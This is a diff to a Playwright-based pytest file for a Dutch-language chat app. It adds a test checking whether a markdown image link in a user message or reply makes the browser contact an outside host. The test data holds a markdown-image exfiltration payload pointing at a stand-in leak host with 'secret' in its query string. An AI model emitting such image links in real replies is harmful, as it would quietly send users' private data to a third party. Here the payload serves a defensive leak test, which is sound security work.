@@ -40,6 +40,9 @@ CHROMIUM_ARGS = [
 LOCAL_HOSTS = {"127.0.0.1", "localhost"}
 LEAK_HOST = "203.0.113.9"
 LEAK_REPLY = f"Je zegt ![x](http://{LEAK_HOST}/leak.png?d=secret) veel. Wat maakt dit lastig?"
+# Replies are written by code from the person's own words, so a leak can also come in by the
+# message: a pasted image link that a mirror or the chat bubble would render.
+LEAK_MESSAGE = f"Mijn leidinggevende stuurde ![x](http://{LEAK_HOST}/leak.png?d=secret) rond."
 
 playwright_api = pytest.importorskip("playwright.sync_api")
 if not CHROMIUM.exists():
@@ -336,8 +339,10 @@ def in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]
 def leak_attempts(browser: Any, url: str) -> PageLog:
     context, page, log = open_app(browser, url)
     try:
-        page.fill("#message textarea", "Ik had een lastig gesprek met mijn leidinggevende.")
-        page.click("#send")
+        for message in ("Ik had een lastig gesprek met mijn leidinggevende.", LEAK_MESSAGE):
+            page.fill("#message textarea", message)
+            page.click("#send")
+            page.wait_for_timeout(1500)
         deadline = time.time() + 30
         while time.time() < deadline and not any(LEAK_HOST in u for u in log.requests):
             page.wait_for_timeout(250)
